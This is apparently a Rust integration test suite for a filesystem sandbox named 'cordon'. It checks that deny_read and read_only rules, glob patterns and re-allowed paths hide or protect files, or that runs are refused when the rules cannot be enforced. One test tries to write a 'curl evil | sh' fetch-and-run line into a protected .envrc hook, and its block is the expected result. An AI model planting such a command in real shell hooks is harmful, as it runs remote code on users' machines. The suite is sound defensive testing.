//! Profile semantics people bring from other agent sandboxes: a rule the user wrote is enforced
//! or refused whatever the preset does with its own defaults; glob patterns in `deny_read` and
//! `read_only`; re-allowing paths inside a hidden tree. Every check is on the real kernel, from
//! outside the sandbox or by an exact errno or content, with a harmless counterpart.

mod common;

use std::fs;
use std::process::Output;

use common::{lines, stderr, stdout, Tree};

/// A profile file with `text`, returned as the `-p` argument.
fn profile(tree: &Tree, name: &str, text: &str) -> String {
    let path = tree.root.join(name);
    fs::write(&path, text).unwrap();
    path.display().to_string()
}

/// `cordon run ARGS -- sh -c SCRIPT`, with or without user namespaces.
fn sh(tree: &Tree, args: &[&str], script: &str, userns: bool) -> Output {
    let mut cmd = tree.cordon();
    cmd.arg("run").args(args).args(["--", "sh", "-c", script]);
    let mut cmd = if userns {
        cmd
    } else {
        common::without_userns(&cmd)
    };
    cmd.output().expect("spawn cordon")
}

/// The resolved policy `--print-policy` shows for `args`.
fn policy(tree: &Tree, args: &[&str]) -> serde_json::Value {
    let mut all = vec!["--print-policy"];
    all.extend_from_slice(args);
    let out = tree.run(&all);
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).expect("one line of JSON")
}

#[test]
fn a_rule_the_user_wrote_is_refused_without_user_namespaces_whatever_the_preset_says() {
    let tree = Tree::new();
    let secret = tree.cwd.join("secret");
    fs::write(&secret, "s3cret\n").unwrap();
    let notes = tree.cwd.join("notes.txt");
    fs::write(&notes, "mine\n").unwrap();
    let marker = tree.cwd.join("ran");
    // The command would leave a mark and overwrite the read-only file: neither may
    // happen when the run is refused.
    let script = format!(
        "touch {}; echo changed > {}; cat {}",
        marker.display(),
        notes.display(),
        secret.display()
    );
    let hide = profile(
        &tree,
        "hide.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    let keep = profile(
        &tree,
        "keep.toml",
        "extends = \"workspace-write\"\n[filesystem]\nread_only = [\"notes.txt\"]\n",
    );
    let cases: [(Vec<&str>, String); 4] = [
        (vec!["-p", &hide], format!("deny_read:{}", secret.display())),
        (vec!["-p", &keep], format!("read_only:{}", notes.display())),
        // The same rules on the command line.
        (
            vec!["--deny-read", ":cwd/secret"],
            format!("deny_read:{}", secret.display()),
        ),
        (
            vec!["--read-only", "notes.txt"],
            format!("read_only:{}", notes.display()),
        ),
    ];
    for (args, rule) in &cases {
        let out = sh(&tree, args, &script, false);
        assert_eq!(out.status.code(), Some(125), "{args:?}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing to run: {rule} cannot be enforced")),
            "{args:?}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
        assert_eq!(stdout(&out), "", "{args:?}");
        assert!(
            !marker.exists(),
            "{args:?}: the command ran although refused"
        );
        assert_eq!(fs::read_to_string(&notes).unwrap(), "mine\n");
    }

    // The harmless counterpart: the preset alone, whose own defaults are only reported, runs
    // here, and the command's effects are there to see.
    let out = sh(&tree, &[], &script, false);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "s3cret\n");
    assert!(marker.exists());
    assert_eq!(fs::read_to_string(&notes).unwrap(), "changed\n");

    // With user namespaces the same rules are enforced: the secret reads as empty and the
    // read-only file cannot be written, while the rest of the workspace stays writable.
    require_userns!();
    fs::write(&notes, "mine\n").unwrap();
    fs::remove_file(&marker).unwrap();
    for (args, _) in &cases {
        let probe = format!(
            "touch {}; (echo changed > {}) 2>/dev/null || echo refused; cat {}",
            marker.display(),
            notes.display(),
            secret.display()
        );
        let out = sh(&tree, args, &probe, true);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        let hides = args
            .iter()
            .any(|a| a.contains("secret") || *a == hide.as_str());
        let expected = if hides { "" } else { "refused\ns3cret\n" };
        assert_eq!(stdout(&out), expected, "{args:?}");
        assert!(marker.exists(), "{args:?}");
        let notes_now = fs::read_to_string(&notes).unwrap();
        assert_eq!(notes_now == "mine\n", !hides, "{args:?}: {notes_now}");
        fs::write(&notes, "mine\n").unwrap();
        fs::remove_file(&marker).unwrap();
    }
}

#[test]
fn only_the_users_own_report_relaxes_a_rule_they_wrote_and_plain_run_says_so() {
    let tree = Tree::new();
    let secret = tree.cwd.join("secret");
    fs::write(&secret, "s3cret\n").unwrap();
    let rule = format!("deny_read:{}", secret.display());
    let relaxed = profile(
        &tree,
        "relaxed.toml",
        "extends = \"workspace-write\"\nenforcement = \"report\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    let strict = profile(
        &tree,
        "strict.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    // What the policy carries: the rule is required unless the profile relaxed it itself.
    let required = |args: &[&str]| policy(&tree, args)["filesystem"]["required"].clone();
    assert_eq!(
        required(&["-p", &strict]),
        serde_json::json!([secret.display().to_string()])
    );
    assert_eq!(required(&["-p", &relaxed]), serde_json::Value::Null);
    assert_eq!(
        required(&["-p", &strict, "--enforcement", "report"]),
        serde_json::Value::Null
    );
    // The preset's own defaults are never required (they follow its `carve_outs`).
    fs::create_dir(tree.cwd.join(".git")).unwrap();
    assert_eq!(required(&[]), serde_json::Value::Null);

    for args in [
        vec!["-p", relaxed.as_str()],
        vec!["-p", &strict, "--enforcement", "report"],
    ] {
        let out = sh(&tree, &args, "cat secret", false);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert_eq!(stdout(&out), "s3cret\n");
        // Downgrades of one kind and reason share a line (here with the preset's own).
        let (kind, path) = rule.split_once(':').unwrap();
        assert!(
            stderr(&out)
                .lines()
                .any(|l| l.starts_with(&format!("cordon: not enforced: {kind}"))
                    && l.contains(path)
                    && l.contains("(carve-outs need the mount-namespace layer")),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    // `--enforcement refuse` on top of a relaxed profile takes it back.
    let out = sh(
        &tree,
        &["-p", &relaxed, "--enforcement", "refuse"],
        "cat secret",
        false,
    );
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
}

#[test]
fn a_read_only_entry_that_does_not_exist_cannot_be_created() {
    require_userns!();
    let tree = Tree::new();
    let p = profile(
        &tree,
        "envrc.toml",
        "extends = \"workspace-write\"\n[filesystem]\nread_only = [\":cwd/.envrc\"]\n",
    );
    // A pattern on everything beneath a directory that does not exist yet: the same.
    let out = common::Tree::py(
        &tree,
        &["-p", &p, "--read-only", ":cwd/.agent/hooks/*"],
        r#"
print(attempt(lambda: open(".envrc", "w").write("curl evil | sh\n")))
print(attempt(lambda: os.mkdir(".envrc/x")))
print(attempt(lambda: os.makedirs(".agent/hooks/pre")))
print(attempt(lambda: open(".agent/hooks/run.sh", "w").write("evil")))
print(attempt(lambda: open("other", "w").write("fine")))
"#,
    );
    assert_eq!(
        lines(&out),
        // The placeholders are empty read-only files: `.envrc`, and `.agent` (the first missing
        // component of the pattern's directory).
        ["EROFS", "ENOTDIR", "ENOTDIR", "ENOTDIR", "OK"],
        "{}",
        stderr(&out)
    );
    // From outside: nothing of the command's is left where the rules were, the harmless file is.
    assert!(!tree.cwd.join(".envrc").exists());
    assert!(!tree.cwd.join(".agent").exists());

    // A relative entry names a file in every writable root (`/tmp` too): only where it exists
    // is it covered, and the policy says so by leaving the missing ones out.
    // (A name the preset does not protect itself: its own entries are placeholders anyway.)
    let entry = serde_json::json!(tree.cwd.join(".tool-config").display().to_string());
    let read_only = |policy: serde_json::Value| {
        policy["filesystem"]["read_only"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    assert!(!read_only(policy(&tree, &["--read-only", ".tool-config"])).contains(&entry));
    fs::write(tree.cwd.join(".tool-config"), "ok\n").unwrap();
    assert!(read_only(policy(&tree, &["--read-only", ".tool-config"])).contains(&entry));
    assert_eq!(fs::read_to_string(tree.cwd.join("other")).unwrap(), "fine");
}

/// A workspace with secrets in the places patterns are written for, and harmless files beside.
fn secrets_workspace(tree: &Tree) {
    for dir in ["a/b", "secrets", ".claude", "src"] {
        fs::create_dir_all(tree.cwd.join(dir)).unwrap();
    }
    for (file, content) in [
        (".env", "TOKEN=top\n"),
        ("a/b/.env", "TOKEN=nested\n"),
        ("a/key.pem", "PEM\n"),
        ("secrets/db", "hunter2\n"),
        (".claude/settings.json", "{}\n"),
        ("src/main.py", "print(1)\n"),
        // Ignored by git: patterns match it all the same.
        (".gitignore", ".env\n*.pem\n"),
    ] {
        fs::write(tree.cwd.join(file), content).unwrap();
    }
}

const PATTERN_PROFILE: &str = "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/**/.env\", \":cwd/secrets/**\"]\nread_only = [\":cwd/.claude/*\", \":cwd/**/*.pem\"]\n";

#[test]
fn glob_patterns_hide_and_protect_what_they_match() {
    require_userns!();
    let tree = Tree::new();
    secrets_workspace(&tree);
    let p = profile(&tree, "patterns.toml", PATTERN_PROFILE);
    let out = tree.py(
        &["-p", &p],
        r#"
def read(path):
    with open(path) as f:
        return f.read() or "EMPTY"
def write(path):
    with open(path, "w") as f:
        f.write("x")
print(attempt(lambda: print(read(".env"))))
print(attempt(lambda: print(read("a/b/.env"))))
print(attempt(lambda: read("secrets/db")))
print(attempt(lambda: write("secrets/new")))
print(attempt(lambda: write("a/key.pem")))
print(attempt(lambda: write(".claude/settings.json")))
print(attempt(lambda: write(".claude/new-hook.json")))
print(attempt(lambda: write("src/main.py")))
print(attempt(lambda: print(read(".gitignore").splitlines()[0])))
"#,
    );
    assert_eq!(
        lines(&out),
        [
            "EMPTY", "OK", "EMPTY", "OK", "ENOENT", "EROFS", "EROFS", "EROFS", "EROFS", "OK",
            ".env", "OK"
        ],
        "{}",
        stderr(&out)
    );
    // From outside: what the rules protect is as it was; the harmless file was written.
    assert_eq!(
        fs::read_to_string(tree.cwd.join("a/key.pem")).unwrap(),
        "PEM\n"
    );
    assert_eq!(
        fs::read_to_string(tree.cwd.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!tree.cwd.join(".claude/new-hook.json").exists());
    assert!(!tree.cwd.join("secrets/new").exists());
    assert_eq!(
        fs::read_to_string(tree.cwd.join("src/main.py")).unwrap(),
        "x"
    );

    // Without user namespaces the rules the profile wrote cannot be enforced: refused, and
    // nothing ran (the harmless write did not happen).
    fs::write(tree.cwd.join("src/main.py"), "print(1)\n").unwrap();
    let out = tree.py_without_userns(&["-p", &p], "open('src/main.py', 'w').write('x')");
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("refusing to run: read_only:"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs::read_to_string(tree.cwd.join("src/main.py")).unwrap(),
        "print(1)\n"
    );
}

#[test]
fn print_policy_shows_each_expansion_and_the_receipt_what_a_pattern_cannot_cover() {
    let tree = Tree::new();
    secrets_workspace(&tree);
    let p = profile(&tree, "patterns.toml", PATTERN_PROFILE);
    let policy = policy(&tree, &["-p", &p]);
    let cwd = |rest: &str| tree.cwd.join(rest).display().to_string();
    let expansions = policy["filesystem"]["patterns"].as_array().unwrap().clone();
    let by_pattern = |pattern: &str| {
        expansions
            .iter()
            .find(|e| e["pattern"] == pattern)
            .unwrap_or_else(|| panic!("{pattern} not in {expansions:?}"))
            .clone()
    };
    let env = by_pattern(":cwd/**/.env");
    assert_eq!(env["field"], "deny_read");
    assert_eq!(
        env["matched"],
        serde_json::json!([cwd(".env"), cwd("a/b/.env")])
    );
    assert_eq!(env["covers_new_paths"], false);
    let secrets = by_pattern(":cwd/secrets/**");
    assert_eq!(secrets["matched"], serde_json::json!([cwd("secrets")]));
    assert_eq!(secrets["covers_new_paths"], true);
    let claude = by_pattern(":cwd/.claude/*");
    assert_eq!(claude["matched"], serde_json::json!([cwd(".claude")]));
    assert_eq!(claude["covers_new_paths"], true);
    assert_eq!(
        by_pattern(":cwd/**/*.pem")["matched"],
        serde_json::json!([cwd("a/key.pem")])
    );
    // The matches are carve-outs like written paths, and the person's own.
    let deny: Vec<String> =
        serde_json::from_value(policy["filesystem"]["deny_read"].clone()).unwrap();
    assert!(deny.contains(&cwd(".env")) && deny.contains(&cwd("secrets")));
    assert!(!deny.contains(&cwd("src/main.py")));

    // A `.env` made after resolution is not covered by a pattern on names, and the receipt
    // says so; the existing one stays hidden.
    require_userns!();
    let out = tree.run(&[
        "-p",
        &p,
        "--json",
        "--",
        "sh",
        "-c",
        "echo NEW=1 > src/.env; cat src/.env; cat .env; echo end",
    ]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(report["stdout"], "NEW=1\nend\n", "{report}");
    let approximations = report["sandbox"]["approximations"].as_array().unwrap();
    let env_note = approximations
        .iter()
        .find(|a| a["rule"] == "deny_read::cwd/**/.env")
        .unwrap_or_else(|| panic!("{approximations:?}"));
    assert_eq!(
        env_note["effect"],
        format!(
            "the 2 paths it matched beneath {} when the profile was resolved are hidden; a matching path created later is not (mounts and Landlock cover paths, not names)",
            tree.cwd.display()
        )
    );
    // Patterns that carve a directory whole cover what is made later: nothing to say.
    assert!(!approximations
        .iter()
        .any(|a| a["rule"] == "deny_read::cwd/secrets/**"));
}

#[test]
fn a_pattern_that_reaches_its_bound_refuses_and_runs_nothing() {
    let tree = Tree::new();
    secrets_workspace(&tree);
    for i in 0..200 {
        fs::write(tree.cwd.join(format!("src/f{i}.txt")), "").unwrap();
    }
    let marker = tree.cwd.join("ran");
    let script = format!("touch {}", marker.display());
    let p = profile(&tree, "patterns.toml", PATTERN_PROFILE);
    for (knob, value, bound) in [
        (
            "CORDON_PATTERN_MAX_ENTRIES",
            "50",
            "the bound of 50 entries",
        ),
        ("CORDON_PATTERN_MAX_MILLIS", "0", "the bound of 0 ms"),
    ] {
        let out = tree
            .cordon()
            .env(knob, value)
            .args(["run", "-p", &p, "--", "sh", "-c", &script])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains(bound) && err.contains("was not expanded in full"),
            "{err}"
        );
        assert!(err.contains(&format!("walking {:?}", tree.cwd)), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(!marker.exists());
    }
    // The harmless counterpart: within the bound (a knob can only lower it) the run goes on.
    let out = tree
        .cordon()
        .env("CORDON_PATTERN_MAX_ENTRIES", "100000000")
        .args([
            "run",
            "-p",
            &p,
            "--enforcement",
            "report",
            "--",
            "sh",
            "-c",
            &script,
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(marker.exists());
}

#[test]
fn a_root_inside_a_hidden_tree_is_allowed_again_and_the_rest_stays_hidden() {
    let tree = Tree::new();
    let home = &tree.home;
    for dir in [".cache/pip", ".cache/other", ".rustup/toolchains", "proj"] {
        fs::create_dir_all(home.join(dir)).unwrap();
    }
    fs::write(home.join(".cache/pip/wheel"), "WHEEL\n").unwrap();
    fs::write(home.join(".rustup/toolchains/stable"), "RUSTC\n").unwrap();
    fs::write(home.join("notes"), "private\n").unwrap();
    fs::write(home.join(".cache/other/x"), "other\n").unwrap();
    let p = profile(
        &tree,
        "home.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\"~\"]\nallow_read = [\"~/.cache/pip\", \"~/.rustup\"]\nwrite = [\"~/proj\"]\n",
    );
    let script = r#"
home = os.environ["HOME"]
def read(rel):
    with open(os.path.join(home, rel)) as f:
        return f.read().strip()
def write(rel):
    with open(os.path.join(home, rel), "w") as f:
        f.write("x")
print(attempt(lambda: print(read(".cache/pip/wheel"))))
print(attempt(lambda: print(read(".rustup/toolchains/stable"))))
print(attempt(lambda: read("notes")))
print(attempt(lambda: read(".cache/other/x")))
print(attempt(lambda: write(".cache/pip/new")))
print(attempt(lambda: write("proj/out")))
"#;
    let check_outside = || {
        assert_eq!(fs::read_to_string(home.join("notes")).unwrap(), "private\n");
        assert!(!home.join(".cache/pip/new").exists());
        assert_eq!(fs::read_to_string(home.join("proj/out")).unwrap(), "x");
        fs::remove_file(home.join("proj/out")).unwrap();
    };

    // Without user namespaces Landlock does what it can: the siblings along the path to `~`
    // are granted instead of its parent, the allowed roots and the writable one on their own.
    let out = tree.py_without_userns(&["-p", &p], script);
    assert_eq!(
        lines(&out),
        ["WHEEL", "OK", "RUSTC", "OK", "EACCES", "EACCES", "EACCES", "OK"],
        "{}",
        stderr(&out)
    );
    check_outside();

    // With them, `~` is an empty directory with the allowed roots bound back in, read-only.
    require_userns!();
    let listing = "print(sorted(os.listdir(os.environ['HOME'])), sorted(os.listdir(os.environ['HOME'] + '/.cache')))";
    let out = tree.py(&["-p", &p], &format!("{script}\n{listing}"));
    assert_eq!(
        lines(&out),
        [
            "WHEEL",
            "OK",
            "RUSTC",
            "OK",
            "ENOENT",
            "ENOENT",
            "EROFS",
            "OK",
            "['.cache', '.rustup', 'proj'] ['pip']"
        ],
        "{}",
        stderr(&out)
    );
    check_outside();

    // The harmless counterpart: without the hiding rule all of it reads as usual.
    let out = tree.py(
        &[],
        "print(open(os.environ['HOME'] + '/notes').read().strip())",
    );
    assert_eq!(lines(&out), ["private"], "{}", stderr(&out));
}

#[test]
fn inside_a_writable_root_the_allowed_part_of_a_hidden_directory_is_read_only() {
    let tree = Tree::new();
    fs::create_dir_all(tree.cwd.join("private/shared")).unwrap();
    fs::write(tree.cwd.join("private/key"), "k\n").unwrap();
    fs::write(tree.cwd.join("private/shared/doc"), "doc\n").unwrap();
    let p = profile(
        &tree,
        "private.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/private\"]\nread = [\":cwd/private/shared\"]\n",
    );
    let script = r#"
print(attempt(lambda: print(open("private/shared/doc").read().strip())))
print(attempt(lambda: open("private/key").read()))
print(attempt(lambda: open("private/shared/doc", "w").write("changed")))
print(attempt(lambda: open("elsewhere", "w").write("fine")))
"#;
    // Without user namespaces Landlock cannot hide inside a writable root: refused.
    let out = tree.py_without_userns(&["-p", &p], script);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(!tree.cwd.join("elsewhere").exists());
    require_userns!();
    let out = tree.py(&["-p", &p], script);
    assert_eq!(
        lines(&out),
        ["doc", "OK", "ENOENT", "EROFS", "OK"],
        "{}",
        stderr(&out)
    );
    assert_eq!(
        fs::read_to_string(tree.cwd.join("private/shared/doc")).unwrap(),
        "doc\n"
    );
    assert_eq!(
        fs::read_to_string(tree.cwd.join("elsewhere")).unwrap(),
        "fine"
    );
}

/// The issue's own example: `deny_read = ["~/.ssh"]` on top of workspace-write, without user
/// namespaces. Landlock keeps `~/.ssh` unreadable where it can grant around it; where it cannot
/// (a home with more entries than it grants around), the run is refused, never run with the
/// key readable.
#[test]
fn a_hidden_ssh_directory_is_kept_unreadable_by_landlock_or_the_run_is_refused() {
    let tree = Tree::new();
    fs::create_dir(tree.home.join(".ssh")).unwrap();
    fs::write(tree.home.join(".ssh/id_test"), "PRIVATE KEY\n").unwrap();
    fs::write(tree.home.join("readme"), "public\n").unwrap();
    let p = profile(
        &tree,
        "ssh.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\"~/.ssh\"]\n",
    );
    let script = r#"
home = os.environ["HOME"]
print(attempt(lambda: open(home + "/.ssh/id_test").read()))
print(attempt(lambda: print(open(home + "/readme").read().strip())))
open("ran", "w").write("yes")
"#;
    let out = tree.py_without_userns(&["-p", &p], script);
    assert_eq!(lines(&out), ["EACCES", "public", "OK"], "{}", stderr(&out));
    assert_eq!(fs::read_to_string(tree.cwd.join("ran")).unwrap(), "yes");
    fs::remove_file(tree.cwd.join("ran")).unwrap();

    // A crowded home: too many siblings to grant around, so the rule cannot be enforced.
    for i in 0..70 {
        fs::write(tree.home.join(format!("file{i}")), "").unwrap();
    }
    let out = tree.py_without_userns(&["-p", &p], script);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let rule = format!("deny_read:{}", tree.home.join(".ssh").display());
    assert!(
        stderr(&out).contains(&format!("refusing to run: {rule} cannot be enforced")),
        "{}",
        stderr(&out)
    );
    assert_eq!(stdout(&out), "");
    assert!(!tree.cwd.join("ran").exists());

    // Inside a hidden home that Landlock can keep unreadable, `~/.ssh` needs nothing of its
    // own, however crowded the home: the run goes on, the key still unreadable.
    let home_too = profile(
        &tree,
        "home-too.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\"~\", \"~/.ssh\"]\n",
    );
    let out = tree.py_without_userns(&["-p", &home_too], script);
    assert_eq!(lines(&out), ["EACCES", "EACCES"], "{}", stderr(&out));
    assert!(tree.cwd.join("ran").exists());
}
